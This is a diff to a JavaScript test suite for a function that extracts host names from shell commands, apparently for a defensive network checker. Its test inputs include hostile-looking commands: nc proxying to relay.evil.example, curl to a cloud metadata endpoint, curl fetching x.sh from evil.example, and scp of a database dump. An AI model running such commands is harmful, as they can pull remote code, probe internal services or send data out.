@@ -105,6 +105,15 @@ describe('hosts named without a scheme', () => {
     expect(
       hostsOfCommand('ssh -J jump.evil.example -o "ProxyCommand=nc relay.evil.example 22" ok.example').sort(),
     ).toEqual(['jump.evil.example', 'ok.example', 'relay.evil.example']);
+    // A one-label name, which resolves inside the network, where the word names a place.
+    expect(hostsOfCommand('curl -s metadata/computeMetadata/v1/instance/')).toEqual(['metadata']);
+    expect(hostsOfCommand('curl -o out.json intranet:8080/admin')).toEqual(['intranet']);
+    expect(hostsOfCommand('ssh -J bastion deploy@db-1 uptime').sort()).toEqual(['bastion', 'db-1']);
+    expect(hostsOfCommand('scp dump.sql backup:/srv/')).toEqual(['backup']);
+    expect(hostsOfCommand('socat - TCP:intranet:80')).toEqual(['intranet']);
+    // Not where such a word is no host: a record type, a git refspec.
+    expect(hostsOfCommand('dig example.com MX +short')).toEqual(['example.com']);
+    expect(hostsOfCommand('git push origin HEAD:main')).toEqual([]);
     // An argv, in an array or split between a command and its arguments.
     expect(hostsOf({ command: ['ssh', 'evil.example', 'uptime'] })).toEqual(['evil.example']);
     expect(hostsOf({ command: 'curl', args: ['-o', 'x.sh', 'evil.example'] })).toEqual(['evil.example']);
